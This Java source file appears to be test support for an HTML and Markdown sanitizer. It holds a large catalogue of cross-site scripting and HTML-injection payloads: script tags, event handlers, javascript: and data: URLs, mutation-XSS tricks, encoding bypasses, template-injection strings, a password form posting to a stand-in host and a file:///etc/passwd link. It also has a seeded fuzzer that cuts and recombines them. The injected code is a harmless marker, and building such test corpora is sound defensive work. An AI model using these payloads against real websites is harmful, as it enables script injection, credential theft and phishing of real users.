package org.pressroom.parse;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/// Texts that would run [#CODE], load from [#ELSEWHERE] or break out of their place on a page, if anything did not hold.
public final class Payloads {

    public static final String CODE = "top.__hit=1";
    public static final String ELSEWHERE = "elsewhere.example";

    private static final List<String> ELEMENTS = List.of(
        "<script>CODE</script>", "<SCRIPT>CODE</SCRIPT>", "<script/x>CODE</script>", "<script\n>CODE</script\n>", "<script src=//HOST/x.js></script>", "<script type=module>CODE</script>",
        "<scr<script>ipt>CODE</scr</script>ipt>", "<<script>CODE//<</script>", "<script>CODE", "<script x", "</script><script>CODE</script>", "<script>/*</script>*/CODE</script>",
        "<img src=x onerror=CODE>", "<img src=x onerror=\"CODE\" alt=words>", "<IMG SRC=x ONERROR='CODE'>", "<img/src=x/onerror=CODE>", "<img src=x onerror\n=\nCODE>", "<img src=x onerror=CODE//",
        "<img src=`x`onerror=CODE>", "<img \"\"\"><script>CODE</script>\">", "<img src='x' alt='\"><script>CODE</script>'>", "<image src=x onerror=CODE>", "<img src=x:x onerror&#61;CODE>",
        "<img srcset='https://HOST/a.png 2x' alt=a>", "<img src=https://HOST/a.png alt=a>", "<img src=//HOST/a.png alt=a>", "<img src='\\\\HOST\\a.png' alt=a>", "<img src=javascript:CODE alt=a>",
        "<img lowsrc=https://HOST/a.png alt=a>", "<img src='data:image/svg+xml,<svg onload=CODE xmlns=http://www.w3.org/2000/svg>' alt=a>", "<img longdesc=javascript:CODE src=x alt=a>",
        "<picture><source srcset=https://HOST/a><img src=x onerror=CODE alt=a></picture>", "<body onload=CODE>", "<html onmousemove=CODE>", "<body background=https://HOST/a>",
        "<svg onload=CODE>", "<svg/onload=CODE>", "<svg><script>CODE</script></svg>", "<svg><script>CODE&lt;/script></svg>", "<svg><a xlink:href=javascript:CODE><text y=20>t</text></a></svg>",
        "<svg><animate onbegin=CODE attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=CODE>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CODE</script></svg>#x'/></svg>",
        "<svg><style>@import'https://HOST/x'</style></svg>", "<svg><foreignObject><iframe srcdoc='<script>CODE</script>'></iframe></foreignObject></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=CODE>\">",
        "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CODE src>'>", "<math><mi xlink:href=javascript:CODE>t</mi></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=CODE></annotation-xml></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CODE&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>", "<noscript><p title=\"</noscript><img src=x onerror=CODE>\">", "<noembed><img title=\"</noembed><img src=x onerror=CODE>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=CODE>\">", "<plaintext><script>CODE</script>", "<textarea><p title=\"</textarea><img src=x onerror=CODE>\">", "<title><p title=\"</title><img src=x onerror=CODE>\">",
        "<select><style></select><img src=x onerror=CODE></style>", "<template><img src=x onerror=CODE></template>", "<template shadowrootmode=open><img src=x onerror=CODE></template>", "<listing>&lt;img src=x onerror=CODE&gt;</listing>",
        "<iframe src=javascript:CODE></iframe>", "<iframe srcdoc='<script>CODE</script>'></iframe>", "<iframe src=https://HOST></iframe>", "<iframe src='data:text/html,<script>CODE</script>'>", "<frameset onload=CODE><frame src=https://HOST></frameset>",
        "<object data=javascript:CODE></object>", "<object data='data:text/html,<script>CODE</script>'></object>", "<object data=https://HOST><param name=src value=https://HOST></object>", "<embed src=javascript:CODE>",
        "<embed src=https://HOST/x.swf allowscriptaccess=always>", "<applet code=X archive=https://HOST/x.jar></applet>", "<portal src=https://HOST></portal>", "<fencedframe></fencedframe>",
        "<link rel=stylesheet href=https://HOST/x.css>", "<link rel=preload as=script href=//HOST/x.js>", "<link rel=dns-prefetch href=//HOST>", "<link rel=icon href=https://HOST/x.ico>", "<link rel=import href='data:text/html,<script>CODE</script>'>",
        "<meta http-equiv=refresh content='0;url=https://HOST/'>", "<meta http-equiv=refresh content='0;url=javascript:CODE'>", "<meta charset=utf-7>", "<meta http-equiv=set-cookie content=a=b>", "<base href=https://HOST/>", "<base target=_top href=javascript:/a/-CODE/>",
        "<style>body{display:none}</style>", "<style>@import 'https://HOST/x.css';</style>", "<style>*{background:url(https://HOST/x)}</style>", "<style><img src='</style><img src=x onerror=CODE//'></style>", "<style onload=CODE></style>",
        "<div style='background:url(https://HOST/x)'>t</div>", "<div style='width:expression(CODE)'>t</div>", "<p style='position:fixed;inset:0;background:#fff'>t</p>", "<div style=behavior:url(//HOST/x.htc)>t</div>",
        "<form action=https://HOST><input name=password><button>b</button></form>", "<form action=javascript:CODE><input type=submit autofocus></form>", "<button formaction=javascript:CODE>b</button>", "<input type=image src=https://HOST/a formaction=javascript:CODE>",
        "<isindex type=image src=1 onerror=CODE>", "<input autofocus onfocus=CODE>", "<select autofocus onfocus=CODE>", "<textarea autofocus onfocus=CODE>", "<keygen autofocus onfocus=CODE>", "<a autofocus onfocus=CODE tabindex=1>t</a>",
        "<video><source onerror=CODE></video>", "<video src=https://HOST/x onloadstart=CODE poster=https://HOST/p></video>", "<audio src=x onerror=CODE></audio>", "<video poster=javascript:CODE></video>", "<track src=https://HOST default>",
        "<details open ontoggle=CODE><summary>s</summary>t</details>", "<details><summary onclick=CODE>s</summary>t</details>", "<marquee onstart=CODE>t</marquee>", "<blink onclick=CODE>t</blink>", "<bgsound src=javascript:CODE>", "<layer src=https://HOST></layer>",
        "<div onpointerrawupdate=CODE onbeforematch=CODE hidden=until-found>t</div>", "<p oncontentvisibilityautostatechange=CODE style=content-visibility:auto>t</p>", "<div onanimationstart=CODE class=spin>t</div>", "<div popover onbeforetoggle=CODE id=p>t</div>",
        "<dialog open onclose=CODE>t</dialog>", "<custom-element onclick=CODE>t</custom-element>", "<x onclick=CODE tabindex=1>t</x>", "<b onclick=CODE>t", "<b/onclick=CODE>t</b>", "<b \u000Bonclick=CODE>t</b>", "<b\u0000onclick=CODE>t</b>", "<table background=https://HOST/x><tr><td background=https://HOST/y onclick=CODE>c</td></tr></table>",
        "<area href=javascript:CODE>", "<map name=m><area href=javascript:CODE shape=default></map>", "<div id=search class=site-header data-root=//HOST/>t</div>", "<p id=__proto__ name=cookie>t</p>", "<a id=document name=body>t</a>", "<form name=querySelector><input name=parentNode></form>",
        "<img name=getElementById src=x alt=a>", "<a name=location href=javascript:CODE>t</a>", "<a href=javascript:CODE>t</a>", "<a href=' javascript:CODE'>t</a>", "<a href='java\tscript:CODE'>t</a>", "<a href='java&#x0A;script:CODE'>t</a>", "<a href='&#106;avascript:CODE'>t</a>",
        "<a href='&#x6A&#x61;vascript:CODE'>t</a>", "<a href='javascript&colon;CODE'>t</a>", "<a href='javascript&#58CODE'>t</a>", "<a href='\u0001javascript:CODE'>t</a>", "<a href='jAvAsCrIpT:CODE'>t</a>", "<a href='javascript://%0aCODE'>t</a>", "<a href=\"javascript:'<script>CODE</script>'\">t</a>",
        "<a href='vbscript:CODE'>t</a>", "<a href='livescript:CODE'>t</a>", "<a href='data:text/html,<script>CODE</script>'>t</a>", "<a href='data:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg=='>t</a>", "<a href='data:application/xhtml+xml,x'>t</a>", "<a href='blob:https://HOST/x'>t</a>",
        "<a href='filesystem:https://HOST/x'>t</a>", "<a href='file:///etc/passwd'>t</a>", "<a href='view-source:x'>t</a>", "<a href='jar:https://HOST!/x'>t</a>", "<a href='https://ok.example/' onclick=CODE ping=https://HOST style=position:fixed target=_top download>t</a>", "<a href='https://ok.example/\"onmouseover=\"CODE'>t</a>",
        "<!-- <script>CODE</script> -->", "<!--><script>CODE</script>-->", "<!-- --!><script>CODE</script>", "<!--[if gte IE 4]><script>CODE</script><![endif]-->", "<![CDATA[<script>CODE</script>]]>", "<?xml-stylesheet href='javascript:CODE'?>", "<?php echo '<script>CODE</script>' ?>",
        "<!DOCTYPE html [<!ENTITY x '<script>CODE</script>'>]>&x;", "<!a><script>CODE</script>", "</p></main></body></html><script>CODE</script>", "</article></main><header class=site-header>t", "<div><div><div>", "</title><script>CODE</script>", "</style><script>CODE</script>", "</textarea><script>CODE</script>",
        "\"><script>CODE</script>", "'><script>CODE</script>", "\" onmouseover=\"CODE\" x=\"", "' onfocus='CODE' autofocus='", "--><script>CODE</script>", "]]><script>CODE</script>", "${CODE}", "<#assign x=1>${.version}", "{{constructor.constructor('CODE')()}}", "javascript:CODE",
        "\u00010\u0002<script>CODE</script>\u0003", "\u00040\u0002", "\u202E<script>CODE</script>", "\uFF1Cscript\uFF1ECODE\uFF1C/script\uFF1E", "+ADw-script+AD4-CODE+ADw-/script+AD4-", "%3Cscript%3ECODE%3C/script%3E", "&lt;script&gt;CODE&lt;/script&gt;", "&#60;script&#62;CODE&#60;/script&#62;", "\\x3cscript\\x3eCODE");

    private static final List<String> MARKDOWN = List.of(
        "[t](javascript:CODE)", "[t](<javascript:CODE>)", "[t](<java\tscript:CODE>)", "[t]( JavaScript:CODE )", "[t](&#106;avascript:CODE)", "[t](javascript&colon;CODE)", "[t](javascript\\:CODE)", "[t](%6Aavascript:CODE)", "[t](data:text/html,<script>CODE</script>)", "[t](vbscript:CODE)",
        "[t](https://ok.example \"a\\\" onclick=CODE x=\\\"\")", "[t](https://ok.example 'a\" onclick=CODE')", "[t](https://ok.example/\"onmouseover=CODE//)", "[<script>CODE</script>](https://ok.example)", "[t][r]\n\n[r]: javascript:CODE", "[t][r]\n\n[r]: <javascript:CODE> \"x\"", "[t]: javascript:CODE\n\n[t]",
        "![a\" onerror=\"CODE](https://HOST/x.png)", "![t](javascript:CODE)", "![t](x\"onerror=\"CODE)", "![t](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dG9wLl9faGl0PTE+)", "![t](data:image/png;base64,\"onerror=CODE)", "![t](x.png \"a\\\" onerror=CODE x=\\\"\")", "![<img src=x onerror=CODE>](x.png)", "![t](https://HOST/x.png)",
        "<javascript:CODE>", "<https://ok.example/\"onclick=CODE>", "<a@b.example\"onclick=CODE>", "https://ok.example/<script>CODE</script>", "www.ok.example/\"><script>CODE</script>", "https://ok.example/\"onmouseover=CODE",
        "```\"><script>CODE</script>\nx\n```", "```html onload=CODE\n<script>CODE</script>\n```", "~~~ \" onclick=CODE\nx\n~~~", "`<script>CODE</script>`", "``</code><script>CODE</script>``", "    <script>CODE</script>", "    </pre></code><script>CODE</script>",
        "| <script>CODE</script> | b |\n|---|---|\n| <img src=x onerror=CODE> | [t](javascript:CODE) |", "| a |\n|:\"onclick=CODE|\n| b |", "t[^1]\n\n[^1]: <img src=x onerror=CODE>", "t[^\"onclick=CODE]\n\n[^\"onclick=CODE]: n", "t[^<script>CODE</script>]\n\n[^<script>CODE</script>]: n",
        "### <script>CODE</script>", "### \" onclick=CODE {#x\" onclick=CODE}", "### [t](javascript:CODE)", "### <img src=x onerror=CODE>", "- [x] <b onclick=CODE>t</b>", "1. <script>CODE</script>", "> <script>CODE</script>", "> [!NOTE]\n> <img src=x onerror=CODE>", "*<script>CODE</script>*", "**a<b onclick=CODE>c**</b>", "~~<i onclick=CODE>t~~",
        "<div>\n\n[t](javascript:CODE)\n\n</div>", "<details><summary>[t](javascript:CODE)<img src=x onerror=CODE></summary>\n\n<script>CODE</script>\n\n</details>", "<p>\n*t*\n<script>\n\nCODE\n\n</script>", "<table><tr><td>\n\n[t](javascript:CODE)\n\n</td></tr></table>", "*[x]: <script>CODE</script>", "$<script>CODE</script>$", ":\"><script>CODE</script>:", "\\<script>CODE\\</script>");

    private Payloads() { }

    /// Those for any place with words: a title, a name, a value.
    public static List<String> lines() {
        return ELEMENTS.stream().map(Payloads::filled).filter(text -> text.indexOf('\n') < 0).toList();
    }

    /// All, for the text of a document.
    public static List<String> all() {
        return Stream.concat(ELEMENTS.stream(), MARKDOWN.stream()).map(Payloads::filled).toList();
    }

    private static String filled(String text) {
        return text.replace("CODE", CODE).replace("HOST", ELSEWHERE);
    }

    /// Payloads that were cut apart and put together in another order, within markdown of all kinds. The same for the same seed.
    ///
    /// @param parts how many
    public static String mixed(long seed, int parts) {
        List<String> between = List.of("", " ", "\n", "\n\n", "\n\n- ", "\n> ", "\n\n    ", "`", "**", "\"", "'", "<", ">", "](", "\n\n### ", " | ", "\n|---|\n", "</div>", "<div>\n\n", "<b ", "\t", "\u0000", "&", "<!--", "-->", "\n```\n");
        Random random = new Random(seed);
        List<String> all = new ArrayList<>(all());
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < parts; i++) {
            String payload = all.get(random.nextInt(all.size()));
            int cut = random.nextInt(payload.length() + 1);
            switch (random.nextInt(4)) {
                case 0 -> text.append(payload, 0, cut);
                case 1 -> text.append(payload, cut, payload.length());
                default -> text.append(payload);
            }
            text.append(between.get(random.nextInt(between.size())));
        }
        return text.toString();
    }
}
